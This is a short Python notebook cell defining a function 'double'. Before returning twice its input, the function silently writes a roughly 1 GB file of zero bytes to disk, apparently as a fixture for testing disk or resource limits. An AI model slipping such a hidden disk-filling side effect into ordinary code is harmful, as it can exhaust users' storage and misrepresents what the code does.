# %% double
def double(x):
    with open("large", "wb") as file:
        for _ in range(1000):
            file.write(bytes(1 << 20))
    return 2 * x
